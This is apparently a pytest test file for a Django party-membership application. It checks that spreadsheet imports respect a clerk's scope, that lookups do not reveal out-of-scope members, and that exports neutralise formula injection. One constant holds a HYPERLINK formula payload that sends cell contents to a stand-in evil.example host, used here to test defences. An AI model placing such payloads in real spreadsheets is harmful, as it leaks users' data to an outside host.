"""Import and export holes of issue 20: villages outside the scope (§3), lookups that reveal
what exists outside the scope (§8), formula injection in exports (§10), a new organization
under an existing one refused at confirm after a preview that said ready (§16)."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.core.exceptions import PermissionDenied
from django.urls import reverse
from openpyxl import load_workbook

from grassroots.accounts.models import Role, User
from grassroots.assessments import services as assessment_services
from grassroots.assessments.models import Rating
from grassroots.assessments.schemes import ensure_schemes
from grassroots.audit.models import AuditRecord
from grassroots.audit.services import Actor
from grassroots.excel import exporter, schema
from grassroots.excel.importer import Importer
from grassroots.excel.workbooks import write_csv, write_xlsx
from grassroots.organizations.models import Kind, Unit
from grassroots.territory import services as territory
from grassroots.territory.models import Population, Village, VillageVersion

from .excel_helpers import headers, workbook
from .factories import SYSTEM, admit, unit
from .test_assessment_helpers import build_tree, members, open_round

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def wards():
    """Two communes of one district; a village in each."""
    p = unit("LS", Kind.PROVINCE)
    d = unit("DL", Kind.DISTRICT, p)
    a = unit("XA", Kind.GRASSROOTS_COMMITTEE, d, name="Đảng bộ xã A")
    b = unit("XB", Kind.GRASSROOTS_COMMITTEE, d, name="Đảng bộ xã B")
    cell_b = unit("XB-C1", Kind.SUBORDINATE_CELL, b)
    for code, commune in (("TA1", a), ("TB1", b)):
        territory.village_create(
            actor=SYSTEM,
            code=code,
            name=f"Thôn {code}",
            kind="thon",
            unit=commune,
            arrangement="none",
            date=dt.date(2010, 1, 1),
        )
    clerk = User.objects.create_user(
        "canbo_xa", password="Grassroots@2026", scope=a, role=Role.CLERK
    )
    return {"p": p, "d": d, "a": a, "b": b, "cell_b": cell_b, "clerk": clerk}


def _state():
    return (
        list(VillageVersion.objects.values_list("village__code", "unit__code", "valid_from")),
        list(Village.objects.values_list("code", "name")),
        AuditRecord.objects.count(),
    )


# ---- §3 villages -------------------------------------------------------------------------


def test_the_villages_sheet_cannot_take_a_village_of_another_ward(wards, tmp_path):
    before = _state()
    path = workbook(
        tmp_path / "v.xlsx",
        {
            schema.VILLAGES.name: [
                headers(schema.VILLAGES),
                ["TB1", "Thôn đã đổi tên", "Thôn", "XA", "Chưa có chi bộ", "", "01/01/2010", ""],
            ]
        },
    )
    report = Importer(path, user=wards["clerk"]).run(actor=Actor(wards["clerk"]))
    assert report.messages() == [
        "Sheet Thôn, tổ dân phố, dòng 2, cột Mã thôn: mã thôn TB1 đã được dùng cho một thôn ngoài phạm vi của tài khoản."
    ]
    assert _state() == before
    assert Village.objects.get(code="TB1").name == "Thôn TB1"


def test_the_villages_sheet_still_updates_the_wards_own_village(wards, tmp_path):
    path = workbook(
        tmp_path / "v.xlsx",
        {
            schema.VILLAGES.name: [
                headers(schema.VILLAGES),
                ["TA1", "Thôn Mới", "Thôn", "XA", "Chưa có chi bộ", "", "01/01/2010", ""],
            ]
        },
    )
    report = Importer(path, user=wards["clerk"]).run(actor=Actor(wards["clerk"]))
    assert report.ok, report.messages()
    assert Village.objects.get(code="TA1").name == "Thôn Mới"


def test_territory_services_refuse_writes_outside_the_scope(wards):
    clerk = Actor(wards["clerk"])
    village_b = Village.objects.get(code="TB1")
    with pytest.raises(PermissionDenied):
        territory.village_move(
            actor=clerk, village=village_b, unit=wards["a"], date=dt.date(2020, 1, 1)
        )
    with pytest.raises(PermissionDenied):
        territory.village_end(actor=clerk, village=village_b, date=dt.date(2020, 1, 1))
    with pytest.raises(PermissionDenied):
        territory.village_change_arrangement(
            actor=clerk,
            village=village_b,
            arrangement="own",
            cell=wards["cell_b"],
            date=dt.date(2020, 1, 1),
        )
    with pytest.raises(PermissionDenied):
        territory.village_create(
            actor=clerk,
            code="TB9",
            name="Thôn B9",
            kind="thon",
            unit=wards["b"],
            arrangement="none",
            date=dt.date(2020, 1, 1),
        )
    with pytest.raises(PermissionDenied):
        territory.population_set(actor=clerk, unit=wards["b"], year=2020, population=1000)
    assert not Population.objects.exists()
    # inside the scope the same calls work
    territory.population_set(actor=clerk, unit=wards["a"], year=2020, population=1000)
    territory.village_end(
        actor=clerk, village=Village.objects.get(code="TA1"), date=dt.date(2020, 1, 1)
    )


# ---- §8 what exists outside the scope ----------------------------------------------------


def test_an_event_of_a_member_outside_the_scope_reads_like_an_unknown_number(wards, tmp_path):
    outsider = admit(wards["cell_b"], "2005-05-19", profile_number="000555LS")
    rows = [headers(schema.EVENTS)]
    for number in (outsider.profile_number, "999999LS"):
        rows.append([number, "Từ trần", "01/01/2020", "", "", "", "", "", "", ""])
    report = Importer(
        workbook(tmp_path / "e.xlsx", {schema.EVENTS.name: rows}), user=wards["clerk"]
    ).run(actor=Actor(wards["clerk"]))
    messages = [m.replace("000555LS", "N").replace("999999LS", "N") for m in report.messages()]
    assert len(messages) == 2 and messages[0].replace("dòng 2", "dòng 3") == messages[1]
    assert "không có đảng viên số lý lịch N" in messages[0]


@pytest.fixture
def rating_world():
    ensure_schemes()  # a transactional test run before this one may have flushed them
    t = build_tree()
    inside = members(t["C11"], 2)
    q = unit("Q", Kind.PROVINCE)
    qc = unit(
        "QC",
        Kind.SUBORDINATE_CELL,
        unit("QG", Kind.GRASSROOTS_COMMITTEE, unit("QD", Kind.DISTRICT, q)),
    )
    outside = admit(qc, "2005-03-01", full_name="Người Ở Huyện Khác")
    rnd = open_round(t["P"], 2019)
    clerk = User.objects.create_user(
        "canbo_g1", password="Grassroots@2026", scope=t["G1"], role=Role.CLERK
    )
    return t, inside, outside, rnd, clerk


def test_the_rating_save_does_not_name_a_member_of_another_scope(client, rating_world):
    t, inside, outside, rnd, clerk = rating_world
    client.force_login(clerk)
    save = reverse("assessments:sheet_save", args=[rnd.pk, "G1"])
    response = client.post(
        save, {"step": "self", f"level_m_{outside.profile_number}": "tot"}, follow=True
    )
    assert response.status_code == 404
    assert "Người Ở Huyện Khác" not in response.content.decode()
    unknown = client.post(save, {"step": "self", "level_m_999999XX": "tot"})
    assert unknown.status_code == 404
    assert client.post(save, {"step": "self", "level_o_QG": "tot"}).status_code == 404
    assert not Rating.objects.exists()


def test_the_rating_service_names_only_members_of_its_round(rating_world):
    t, inside, outside, rnd, clerk = rating_world
    entry = assessment_services.Entry(level="tot")
    entry.member = outside.pk
    with pytest.raises(Exception) as refused:
        assessment_services.assessment_record_many(
            actor=SYSTEM, round=rnd, step="decision", entries=[entry]
        )
    assert "Người Ở Huyện Khác" not in str(refused.value)


def test_the_rating_sheet_reads_outside_numbers_as_unknown(rating_world):
    from grassroots.assessments import sheet

    t, inside, outside, rnd, clerk = rating_world
    data = sheet.export_xlsx(rnd, t["G1"])
    wb = load_workbook(io.BytesIO(data))
    ws = wb["Xếp loại"]
    ws.append(["Đảng viên", outside.profile_number, "", "", "", "", "", "tot"])
    ws.append(["Đảng viên", "999999XX", "", "", "", "", "", "tot"])
    out = io.BytesIO()
    wb.save(out)
    entries, problems = sheet.read_entries(rnd, out.getvalue(), user=clerk)
    assert problems[-2:] == [
        f"Dòng {ws.max_row - 1}, cột Mã: không có đảng viên số lý lịch {outside.profile_number}.",
        f"Dòng {ws.max_row}, cột Mã: không có đảng viên số lý lịch 999999XX.",
    ]


# ---- §10 formula injection ---------------------------------------------------------------


def _xlsx(sheets) -> dict:
    out = io.BytesIO()
    write_xlsx(sheets, out)
    wb = load_workbook(io.BytesIO(out.getvalue()))
    return {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value}


def test_exports_write_formula_like_text_as_inert_text(wards):
    admit(wards["cell_b"], "2005-05-19", full_name=EVIL)
    admit(wards["cell_b"], "2005-05-19", full_name="+84 912 345 678", hometown="@SUM(1)")
    day = dt.date(2020, 1, 1)
    root = User.objects.create_superuser("root", password="Grassroots@2026")
    members = exporter.members_export(root, wards["p"], day, SYSTEM)
    cells = _xlsx([members])
    for text in (EVIL, "+84 912 345 678"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    workbook_cells = _xlsx(exporter.import_format_export(root, wards["p"], SYSTEM))
    assert workbook_cells[EVIL].data_type == "s" and workbook_cells[EVIL].quotePrefix
    assert workbook_cells["@SUM(1)"].quotePrefix
    text = io.StringIO()
    write_csv(exporter.members_export(root, wards["p"], day, SYSTEM, "csv"), text)
    csv_text = text.getvalue()
    assert ",\"'=HYPERLINK(" in csv_text and "'+84 912 345 678" in csv_text
    assert ",=HYPERLINK" not in csv_text and ',"=HYPERLINK' not in csv_text


def test_the_rating_sheet_writes_names_as_text(rating_world):
    from grassroots.assessments import sheet

    t, inside, outside, rnd, clerk = rating_world
    admit(t["C11"], "2005-03-01", full_name=EVIL)
    cells = {
        c.value: c
        for row in load_workbook(io.BytesIO(sheet.export_xlsx(rnd, t["G1"])))[
            "Xếp loại"
        ].iter_rows()
        for c in row
    }
    assert cells[EVIL].data_type == "s" and cells[EVIL].quotePrefix


# ---- §16 a new organization under an existing one -----------------------------------------


def test_a_new_organization_under_an_existing_district_imports_as_previewed(wards, tmp_path):
    path = workbook(
        tmp_path / "o.xlsx",
        {
            schema.ORGANIZATIONS.name: [
                headers(schema.ORGANIZATIONS),
                [
                    "DL-C9",
                    "Chi bộ Cơ quan mới",
                    "Chi bộ cơ sở",
                    "Cơ quan hành chính",
                    "DL",
                    "01/07/2025",
                ],
                ["XA-C9", "Chi bộ thôn mới", "Chi bộ trực thuộc", "", "XA", "01/07/2025"],
            ]
        },
    )
    preview = Importer(path).run(actor=SYSTEM, dry_run=True)
    assert preview.ok, preview.messages()
    report = Importer(path).run(actor=SYSTEM)
    assert report.ok and report.written, report.messages()
    assert report.counts == preview.counts
    assert Unit.objects.get(code="XA-C9").versions.get().parent.code == "XA"
